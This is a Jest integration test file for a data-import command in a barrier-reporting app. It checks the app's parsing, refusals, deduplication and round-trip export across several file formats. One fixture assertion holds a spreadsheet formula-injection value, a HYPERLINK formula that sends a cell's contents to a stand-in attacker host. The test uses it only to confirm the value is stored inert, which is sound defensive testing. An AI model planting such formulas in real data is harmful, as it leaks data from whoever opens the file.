// npm run import (docs/IMPORTS.md) over the real database: each format from a real-shaped file
// with broken rows (tests/fixtures/imports/README.md says where each shape comes from), the
// dry run, a second run, a Wegfrei export re-imported into a second fresh database, and the
// command itself as a child process.
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import { createTaxonomy } from '../../server/features/categories/categories.service';
import { parseCsv, CsvSyntaxError } from '../../server/features/imports/csv';
import { emptyMapping, MappingError, parseMapping } from '../../server/features/imports/imports.mapping';
import { detectFormat, readRecords } from '../../server/features/imports/imports.read';
import type { ImportFormat } from '../../server/features/imports/imports.rows';
import { importRecords, type ImportSummary } from '../../server/features/imports/imports.service';
import { text } from './support/csv';
import { HELP_GRID_M, startTestApp, type TestApp } from './support/test-app';

jest.setTimeout(180_000);

const ROOT = path.resolve(__dirname, '../..');
const FIXTURES = path.join(ROOT, 'tests/fixtures/imports');
const fixture = (name: string) => fs.readFile(path.join(FIXTURES, name), 'utf8');

// The embedded database is one session whose search_path each pool sets when it connects, so
// two test apps must never be open at once: each describe opens and closes its own.
let t: TestApp;

/** What `npm run import` does after reading its arguments, on the test's database. */
async function runImport(
  app: TestApp,
  fileText: string,
  opts: { dryRun?: boolean; mapping?: string; format?: ImportFormat } = {},
): Promise<ImportSummary & { format: ImportFormat }> {
  const taxonomy = createTaxonomy(app.pool);
  const categories = await taxonomy.all();
  const mapping = opts.mapping ? parseMapping(opts.mapping, categories) : emptyMapping();
  const format = opts.format ?? detectFormat(fileText, mapping);
  const records = readRecords(fileText, format, categories, mapping);
  const summary = await importRecords(
    { pool: app.pool, events: app.events, storage: app.storage, taxonomy, helpGridM: HELP_GRID_M },
    records,
    { dryRun: opts.dryRun ?? false, concurrency: process.env.TEST_DATABASE_URL ? 4 : 1 },
  );
  return { ...summary, format };
}

const refusedRows = (s: ImportSummary) => s.refusals.map((r) => [r.row, r.reason]);

async function imported(prefix: string) {
  const { rows } = await t.pool.query<{
    origin_ref: string;
    category: string;
    kind: string;
    severity: number;
    description: string | null;
    address: string | null;
    source: string;
    review: string;
    lon: number;
    lat: number;
    coarse: boolean;
    created_at: Date;
  }>(
    `SELECT origin_ref, category, kind, severity, description, address, source, review,
            ST_X(geom) AS lon, ST_Y(geom) AS lat, NOT ST_Equals(geom, public_geom) AS coarse, created_at
       FROM reports WHERE origin_ref LIKE $1 ORDER BY origin_ref`,
    [`${prefix}%`],
  );
  return rows;
}

describe('each format, into one database', () => {
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  describe('GeoJSON text sequence in Wegfrei property names', () => {
    it('a dry run names each refused record and why, and stores nothing', async () => {
      const summary = await runImport(t, await fixture('wegfrei-sequence.geojsons'), { dryRun: true });
      expect(summary.format).toBe('geojson');
      expect(summary).toMatchObject({ records: 11, taken: 4, alreadyImported: 0, refused: 7 });
      expect(refusedRows(summary)).toEqual([
        [3, 'not_a_point'],
        [4, 'invalid'],
        [5, 'unknown_category'],
        [6, 'invalid'],
        [9, 'invalid'],
        [10, 'no_coordinates'],
        [11, 'unreadable'],
      ]);
      expect(summary.refusals.find((r) => r.row === 6)!.detail).toBe('description: must be at most 4000 characters');
      expect(summary.refusals.find((r) => r.row === 4)!.detail).toMatch(/^lat: must be between -90 and 90/);
      expect(await imported('geojson:')).toEqual([]);
    });

    it('imports the good records as a web report would be stored, and a second run adds nothing', async () => {
      const file = await fixture('wegfrei-sequence.geojsons');
      const first = await runImport(t, file);
      expect(first).toMatchObject({ taken: 4, alreadyImported: 0, refused: 7 });
      const rows = await imported('geojson:');
      expect(rows).toHaveLength(4);
      expect(rows.every((r) => r.source === 'import' && /^geojson:sha256:[0-9a-f]{64}$/.test(r.origin_ref))).toBe(true);
      const byCategory = Object.fromEntries(rows.map((r) => [r.category, r]));
      // A category given by its German label is read as its code.
      expect(Object.keys(byCategory).sort()).toEqual(['help_medical', 'kerb_missing', 'obstacle', 'steps']);
      expect(byCategory.steps).toMatchObject({ severity: 3, address: 'Karl-Marx-Allee 1', lon: 13.4049, lat: 52.52 });
      // Text that a spreadsheet would run is stored as the words it is; the CSV export guards it.
      expect(byCategory.obstacle!.description).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Klick")');
      // A help request waits for a coordinator and is shown coarsened, as from the web.
      expect(byCategory.help_medical).toMatchObject({ kind: 'help', review: 'pending', coarse: true });

      const again = await runImport(t, file);
      expect(again).toMatchObject({ taken: 0, alreadyImported: 4, refused: 7 });
      expect(await imported('geojson:')).toHaveLength(4);
    });
    it('reads one Feature per line too, and a FeatureCollection', async () => {
      const feature = (lon: number, category: string) =>
        JSON.stringify({
          type: 'Feature',
          geometry: { type: 'Point', coordinates: [lon, 50.1] },
          properties: { category },
        });
      // The same feature twice in one file is one report.
      const lines = `${feature(8.61, 'steps')}\n${feature(8.62, 'Pas de trottoir')}\n\n${feature(8.63, 'nope')}\n${feature(8.61, 'steps')}\n`;
      const summary = await runImport(t, lines, { dryRun: true });
      expect(summary).toMatchObject({ records: 4, taken: 2, alreadyImported: 1, refused: 1 });
      expect(refusedRows(summary)).toEqual([[4, 'unknown_category']]);
      const collection = JSON.stringify({ type: 'FeatureCollection', features: [JSON.parse(feature(8.64, 'lift'))] });
      expect(await runImport(t, collection, { dryRun: true })).toMatchObject({ records: 1, taken: 1 });
    });
  });

  describe('CSV with a mapping file', () => {
    it('reads a German spreadsheet (BOM, semicolons, decimal commas, a line break in a cell)', async () => {
      const mapping = await fixture('barriers-de.map.json');
      const file = await fixture('barriers-de.csv');
      expect(detectFormat(file)).toBe('csv');
      const dry = await runImport(t, file, { mapping, dryRun: true });
      expect(dry).toMatchObject({ records: 10, taken: 4, refused: 6 });
      // Rows are the file's lines: record 2 spans lines 3 and 4.
      expect(refusedRows(dry)).toEqual([
        [6, 'no_coordinates'],
        [7, 'invalid'],
        [8, 'unknown_category'],
        [9, 'invalid'],
        [11, 'invalid'],
        [12, 'unreadable'],
      ]);
      expect(dry.refusals.at(-1)!.detail).toMatch(/another delimiter/);
      expect(await imported('berlin-barrieren:')).toEqual([]);

      const real = await runImport(t, file, { mapping });
      expect(real.taken).toBe(4);
      const rows = await imported('berlin-barrieren:');
      expect(rows.map((r) => [r.origin_ref, r.category, r.severity])).toEqual([
        ['berlin-barrieren:1', 'steps', 3],
        ['berlin-barrieren:2', 'kerb_missing', 2],
        ['berlin-barrieren:3', 'works', 1],
        ['berlin-barrieren:8', 'steps', 2],
      ]);
      expect(rows[0]).toMatchObject({ lat: 52.52, lon: 13.405, address: 'Alexanderplatz 3' });
      expect(rows[1]!.description).toBe('Kein abgesenkter Bordstein\nan der Ecke; gefährlich');
      expect((await runImport(t, file, { mapping })).alreadyImported).toBe(4);
    });

    it('finds latitude and longitude columns by their usual names without a mapping', async () => {
      const file =
        'Latitude,Longitude,Category,Description\r\n48.137,11.575,Stufen ohne Rampe,Zwei Stufen\r\n48.138,11.576,surface,\r\n';
      const summary = await runImport(t, file);
      expect(summary).toMatchObject({ taken: 2, refused: 0 });
      const rows = await imported('csv:sha256:');
      expect(rows.map((r) => r.category).sort()).toEqual(['steps', 'surface']);
    });

    it('refuses a mapping that names a category we do not have, before reading the file', async () => {
      const taxonomy = createTaxonomy(t.pool);
      expect(() => parseMapping('{"categories": {"Treppe": "stairs"}}', [])).toThrow(MappingError);
      await expect(taxonomy.all().then((c) => parseMapping('{"categories": {"Treppe": "stairs"}}', c))).rejects.toThrow(
        /"Treppe" → "stairs"/,
      );
      expect(() => parseMapping('{"colums": {}}', [])).toThrow(/colums/);
    });

    it('parses RFC 4180 quoting and says where a quote is never closed', () => {
      const table = parseCsv('\uFEFFa;b\r\n"x;1";"say ""hi""\nthere"\r\n');
      expect(table.delimiter).toBe(';');
      expect(table.records.map((r) => r.cells)).toEqual([
        ['a', 'b'],
        ['x;1', 'say "hi"\nthere'],
      ]);
      expect(() => parseCsv('a,b\n1,"open\n2,3\n')).toThrow(CsvSyntaxError);
      expect(() => parseCsv('a,b\n1,"open\n2,3\n')).toThrow(/line 2/);
    });
  });

  describe("Ushahidi Platform's CSV export", () => {
    it('maps its categories, skips archived posts and never reads the Contact column', async () => {
      const file = await fixture('ushahidi-export.csv');
      expect(detectFormat(file)).toBe('ushahidi');
      const summary = await runImport(t, file);
      expect(summary).toMatchObject({ records: 9, taken: 5, refused: 4 });
      expect(refusedRows(summary)).toEqual([
        [7, 'archived'],
        [8, 'no_coordinates'],
        [9, 'unknown_category'],
        [11, 'invalid'],
      ]);
      const rows = await imported('ushahidi:');
      expect(rows.map((r) => [r.origin_ref, r.category])).toEqual([
        ['ushahidi:101', 'help_medical'],
        ['ushahidi:102', 'help_shelter'],
        ['ushahidi:103', 'help_food_water'],
        ['ushahidi:104', 'obstacle'],
        ['ushahidi:108', 'help_evacuation'],
      ]);
      // "Post Date (UTC)": when it happened, as the reporter said.
      expect(rows[0]!.created_at.toISOString()).toBe('2023-02-07T10:10:00.000Z');
      expect(rows[0]!.description).toBe(
        'Wheelchair user needs insulin\n\nWoman, 64, in a wheelchair, needs insulin and a doctor',
      );
      const leaked = await t.pool.query(
        `SELECT id FROM reports WHERE contact IS NOT NULL OR description LIKE '%5551234567%'`,
      );
      expect(leaked.rows).toEqual([]);
    });

    it("takes a deployment's own category through --mapping on a second run, and nothing twice", async () => {
      const file = await fixture('ushahidi-export.csv');
      // Its own origin name, so this test does not meet the records of the one above.
      const first = await runImport(t, file, { mapping: '{"origin": "ushahidi-haiti"}' });
      expect(first).toMatchObject({ taken: 5, alreadyImported: 0, refused: 4 });
      const mapping = '{"origin": "ushahidi-haiti", "categories": {"Volunteers wanted": "help_assist"}}';
      const second = await runImport(t, file, { mapping });
      expect(second).toMatchObject({ taken: 1, alreadyImported: 5, refused: 3 });
      expect((await imported('ushahidi-haiti:107'))[0]!.category).toBe('help_assist');
    });
  });

  describe("Project Sidewalk's labels", () => {
    it('maps label types through the taxonomy and skips what is not a barrier', async () => {
      const file = await fixture('sidewalk-labels.geojson');
      expect(detectFormat(file)).toBe('sidewalk');
      const summary = await runImport(t, file);
      expect(summary).toMatchObject({ records: 15, taken: 8, refused: 7 });
      expect(refusedRows(summary)).toEqual([
        [2, 'not_a_barrier'],
        [9, 'not_a_barrier'],
        [10, 'not_a_barrier'],
        [11, 'not_a_barrier'],
        [13, 'invalid'],
        [14, 'unknown_category'],
        [15, 'not_a_point'],
      ]);
      const rows = await imported('sidewalk:');
      expect(rows.map((r) => [r.origin_ref, r.category, r.severity])).toEqual([
        ['sidewalk:20232', 'kerb_missing', 3],
        ['sidewalk:20235', 'kerb_defect', 3],
        ['sidewalk:20236', 'works', 2],
        ['sidewalk:20237', 'obstacle', 3],
        ['sidewalk:20238', 'slope', 1],
        ['sidewalk:20239', 'surface', 2],
        ['sidewalk:20240', 'no_sidewalk', 3],
        ['sidewalk:20244', 'other_barrier', 2],
      ]);
      expect(rows[1]!.description).toBe('Ramp far too steep\nTags: steep, narrow');
    });

    it('takes a positive label from severity 3 and scales severity 1–5 onto 1–3', async () => {
      const label = (id: number, label_type: string, severity: number) => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: [-122.3, 47.6 + id / 1000] },
        properties: { label_id: id, label_type, severity, tags: [] },
      });
      const labels = [
        label(1, 'CurbRamp', 2),
        label(2, 'CurbRamp', 3),
        ...[1, 2, 3, 4, 5].map((sev) => label(10 + sev, 'NoCurbRamp', sev)),
      ];
      const file = JSON.stringify({ type: 'FeatureCollection', features: labels });
      const summary = await runImport(t, file, { mapping: '{"origin": "sidewalk-seattle"}' });
      expect(refusedRows(summary)).toEqual([[1, 'not_a_barrier']]);
      const rows = await imported('sidewalk-seattle:');
      expect(rows.map((r) => [r.origin_ref, r.category, r.severity])).toEqual([
        ['sidewalk-seattle:11', 'kerb_missing', 1],
        ['sidewalk-seattle:12', 'kerb_missing', 1],
        ['sidewalk-seattle:13', 'kerb_missing', 2],
        ['sidewalk-seattle:14', 'kerb_missing', 3],
        ['sidewalk-seattle:15', 'kerb_missing', 3],
        ['sidewalk-seattle:2', 'kerb_defect', 2],
      ]);
    });
  });
});

describe('a Wegfrei export re-imported into a fresh database', () => {
  it('gives the same reports', async () => {
    const sent = [
      {
        category: 'steps',
        lat: 47.3769,
        lon: 8.5417,
        severity: 3,
        passability: 'no',
        description: 'Two steps',
        address: 'Bahnhofstrasse 1',
        accuracy_m: 4.5,
      },
      { category: 'surface', lat: 47.3771234, lon: 8.5419876, severity: 1, passability: 'limited' },
      { category: 'kerb_missing', lat: 47.378, lon: 8.543, description: 'Line one\nline "two"; and =1+1' },
      { category: 'help_evacuation', lat: 47.379, lon: 8.544, people_count: 3, description: 'Needs a lift' },
    ];
    const source = await startTestApp();
    let exported: string;
    try {
      for (const body of sent) await request(source.app).post('/api/v1/reports').send(body).expect(201);
      const res = await text(request(source.app).get('/api/v1/exports/reports.geojson'));
      expect(res.status).toBe(200);
      exported = res.body as string;
    } finally {
      await source.close();
    }
    const target = await startTestApp();
    try {
      const summary = await runImport(target, exported);
      expect(summary).toMatchObject({ records: 4, taken: 4, refused: 0 });
      const again = await text(request(target.app).get('/api/v1/exports/reports.geojson'));
      type F = { geometry: unknown; properties: Record<string, unknown> };
      // Written four at a time on PostgreSQL, so in any order: compared as sorted lists.
      const same = (body: string) =>
        (JSON.parse(body) as { features: F[] }).features
          .map((f) => ({
            geometry: f.geometry,
            ...Object.fromEntries(
              [
                'category',
                'kind',
                'severity',
                'passability',
                'description',
                'address',
                'accuracy_m',
                'people_count',
                'created_at',
              ].map((k) => [k, f.properties[k]]),
            ),
          }))
          .map((f) => JSON.stringify(f))
          .sort();
      expect(same(again.body as string)).toHaveLength(4);
      expect(same(again.body as string)).toEqual(same(exported));
      // Each is known by its page in the first instance, so a second run adds nothing.
      const refs = await target.pool.query<{ origin_ref: string }>('SELECT origin_ref FROM reports ORDER BY id');
      expect(refs.rows.map((r) => r.origin_ref)).toEqual(
        expect.arrayContaining([expect.stringMatching(/^wegfrei:http:\/\/127\.0\.0\.1:\d+\/reports\/\d+$/)]),
      );
      expect(refs.rows.every((r) => r.origin_ref.startsWith('wegfrei:'))).toBe(true);
      expect(await runImport(target, exported)).toMatchObject({ taken: 0, alreadyImported: 4 });
    } finally {
      await target.close();
    }
  });
});

describe('npm run import as a command', () => {
  /** The command, on the test's schema (PostgreSQL) or on a fresh embedded database of its own. */
  async function command(args: string[], env: Record<string, string>) {
    return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
      execFile(
        process.execPath,
        ['--import', 'tsx', 'scripts/import.ts', ...args],
        { cwd: ROOT, env: { ...process.env, LOG_LEVEL: 'warn', ...env }, timeout: 200_000 },
        (err, stdout, stderr) => resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
      );
    });
  }

  it('imports a file, says so, exits 0; exits 1 when nothing could be taken or the file is missing', async () => {
    let env: Record<string, string>;
    let dataDir: string | undefined;
    let own: TestApp | undefined;
    if (process.env.TEST_DATABASE_URL) {
      // A schema of its own: the tests above imported the same file into theirs.
      own = await startTestApp();
      const { rows } = await own.pool.query<{ schema: string }>('SELECT current_schema() AS schema');
      const url = new URL(process.env.TEST_DATABASE_URL);
      url.searchParams.set('options', `-c search_path=${rows[0]!.schema},public`);
      env = { DATABASE_URL: url.toString() };
    } else {
      dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'wegfrei-import-'));
      env = { DATABASE_URL: '', DATA_DIR: dataDir };
    }
    try {
      const broken = path.join(os.tmpdir(), `wegfrei-broken-${process.pid}.csv`);
      // Windows-1252, as German Excel saves "CSV": "Länge" is found only when the bytes are read so.
      await fs.writeFile(broken, Buffer.from('Breite;Länge;Kategorie\n95;10;steps\n50;10;nonsense\n', 'latin1'));
      const file = path.join(FIXTURES, 'sidewalk-labels.geojson');
      const run = await command([file, '--origin-less-typo'], env);
      expect(run.code).toBe(2);
      const first = await command([file], env);
      expect(first.stderr).toContain('sidewalk, 15 records');
      expect(first.stdout).toContain('15 records: 8 imported, 0 already imported, 7 refused.');
      expect(first.stdout).toContain('row 14: unknown_category: label type "Pothole" has no category');
      expect(first.code).toBe(0);
      const second = await command([file], env);
      expect(second.stdout).toMatch(/15 records: 0 imported, 8 already imported, 7 refused/);
      expect(second.code).toBe(0);
      const nothing = await command([broken, '--dry-run'], env);
      expect(nothing.stdout).toContain('2 records: 0 would be imported');
      expect(nothing.stderr).toContain('not UTF-8; read as Windows-1252');
      // An unknown category is answered with the next step and our codes.
      expect(nothing.stdout).toContain(`mapping file's "categories"`);
      expect(nothing.stdout).toMatch(/Our codes: .*\bsteps\b/);
      expect(nothing.code).toBe(1);
      const missing = await command([path.join(FIXTURES, 'no-such-file.csv')], env);
      expect(missing.stderr).toMatch(/import failed: .*no-such-file\.csv/);
      expect(missing.code).toBe(1);
      await fs.rm(broken, { force: true });
    } finally {
      if (dataDir) await fs.rm(dataDir, { recursive: true, force: true });
      await own?.close();
    }
  }, 400_000);
});
